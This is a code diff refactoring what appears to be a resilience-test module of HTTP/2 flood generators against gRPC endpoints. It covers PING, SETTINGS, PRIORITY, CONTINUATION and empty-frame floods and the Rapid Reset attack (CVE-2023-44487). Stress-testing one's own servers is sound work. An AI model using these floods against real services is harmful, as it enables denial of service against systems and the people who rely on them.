@@ -20,10 +20,7 @@ def pings(open_connection):
     """PING frames; the answers are read."""
     connection = open_connection()
     block = b"".join(ping(number) for number in range(BLOCK))
-    while True:
-        connection.send(block)
-        connection.drain()
-        yield BLOCK
+    yield from connection.repeat(block, BLOCK)
 
 
 def unread_pings(open_connection):
@@ -39,10 +36,7 @@ def settings(open_connection):
     """SETTINGS frames, each to be acknowledged."""
     connection = open_connection()
     block = frames.SettingsFrame(0, settings={frames.SettingsFrame.INITIAL_WINDOW_SIZE: 65535}).serialize() * BLOCK
-    while True:
-        connection.send(block)
-        connection.drain()
-        yield BLOCK
+    yield from connection.repeat(block, BLOCK)
 
 
 def window_updates(open_connection):
@@ -51,57 +45,45 @@ def window_updates(open_connection):
     stream, head = connection.headers(PREDICT_PATH)
     connection.send(head)
     block = b"".join(frames.WindowUpdateFrame(number, window_increment=1).serialize() for number in (0, stream))
-    while True:
-        connection.send(block * BLOCK)
-        connection.drain()
-        yield 2 * BLOCK
+    yield from connection.repeat(block * BLOCK, 2 * BLOCK)
 
 
 def priorities(open_connection):
     """PRIORITY frames for streams that do not exist."""
     connection = open_connection()
     block = b"".join(frames.PriorityFrame(2 * number + 1, depends_on=0).serialize() for number in range(BLOCK))
-    while True:
-        connection.send(block)
-        connection.drain()
-        yield BLOCK
+    yield from connection.repeat(block, BLOCK)
 
 
 def unknown_frames(open_connection):
     """Frames of a type that HTTP/2 does not know."""
     connection = open_connection()
     block = (struct.pack(">I", 8)[1:] + b"\x4f\x00" + bytes(4) + bytes(8)) * BLOCK
-    while True:
-        connection.send(block)
-        connection.drain()
-        yield BLOCK
+    yield from connection.repeat(block, BLOCK)
 
 
 def resets(open_connection):
     """Rapid reset (CVE-2023-44487): calls that are taken back at once."""
-    connection = open_connection()
-    while True:
-        block = []
-        for _ in range(100):
-            stream, head = connection.headers(PREDICT_PATH)
-            block += [head, frames.RstStreamFrame(stream, error_code=8).serialize()]
-        connection.send(b"".join(block))
-        connection.drain()
-        yield 200
+    return taken_back(open_connection, PREDICT_PATH, 100, whole=False)
 
 
 def finished_resets(open_connection):
     """The same for whole calls of Health/Check."""
+    return taken_back(open_connection, HEALTH_PATH, 100, whole=True)
+
+
+def taken_back(open_connection, path, calls, *, whole):
+    """Calls that are taken back at once, so many in one write. whole: with an empty message and their end."""
     connection = open_connection()
     while True:
         block = []
-        for _ in range(100):
-            stream, head = connection.headers(HEALTH_PATH)
-            body = data(stream, message(b""), end_stream=True)
-            block += [head, body, frames.RstStreamFrame(stream, error_code=8).serialize()]
+        for _ in range(calls):
+            stream, head = connection.headers(path)
+            body = [data(stream, message(b""), end_stream=True)] if whole else []
+            block += [head, *body, frames.RstStreamFrame(stream, error_code=8).serialize()]
         connection.send(b"".join(block))
         connection.drain()
-        yield 300
+        yield len(block)
 
 
 def empty_data(open_connection):
@@ -110,10 +92,7 @@ def empty_data(open_connection):
     stream, head = connection.headers(PREDICT_PATH)
     connection.send(head)
     block = data(stream, b"") * BLOCK
-    while True:
-        connection.send(block)
-        connection.drain()
-        yield BLOCK
+    yield from connection.repeat(block, BLOCK)
 
 
 def empty_messages(open_connection):
@@ -122,10 +101,7 @@ def empty_messages(open_connection):
     stream, head = connection.headers(PREDICT_PATH)
     connection.send(head)
     block = data(stream, message(b"")) * BLOCK
-    while True:
-        connection.send(block)
-        connection.drain()
-        yield BLOCK
+    yield from connection.repeat(block, BLOCK)
 
 
 def continuations(open_connection):
@@ -135,10 +111,7 @@ def continuations(open_connection):
     connection.send(head)
     literal = b"\x00" + b"\x04" + b"name" + b"\x05" + b"value"
     block = frames.ContinuationFrame(stream, literal * 1000).serialize() * 10
-    while True:
-        connection.send(block)
-        connection.drain()
-        yield 10
+    yield from connection.repeat(block, 10)
 
 
 def empty_continuations(open_connection):
@@ -147,10 +120,7 @@ def empty_continuations(open_connection):
     stream, head = connection.headers(PREDICT_PATH, end_headers=False)
     connection.send(head)
     block = frames.ContinuationFrame(stream, b"").serialize() * BLOCK
-    while True:
-        connection.send(block)
-        connection.drain()
-        yield BLOCK
+    yield from connection.repeat(block, BLOCK)
 
 
 def unread_replies(open_connection):
